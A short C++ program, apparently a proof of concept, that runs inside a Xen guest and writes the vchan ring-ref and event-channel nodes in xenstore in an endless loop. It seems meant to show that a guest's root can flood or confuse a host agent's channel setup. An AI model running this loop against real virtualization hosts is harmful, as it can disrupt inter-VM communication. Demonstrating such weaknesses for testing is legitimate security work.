// SPDX-License-Identifier: MIT
// In a guest: writes the agent's nodes as fast as xenstore takes it, without end. Any program of a
// guest's root can.
#include <cstdint>
#include <initializer_list>
#include <string>

extern "C" {
#include <xenstore.h>
}

int main() {
    xs_handle* store = xs_open(0);
    if (store == nullptr) {
        return 1;
    }
    for (std::uint32_t n = 1;; ++n) {
        const std::string number = std::to_string(n);
        for (const char* node : {"data/vchan/0/1/ring-ref", "data/vchan/0/1/event-channel"}) {
            xs_write(store, XBT_NULL, node, number.data(), static_cast<unsigned>(number.size()));
        }
    }
}
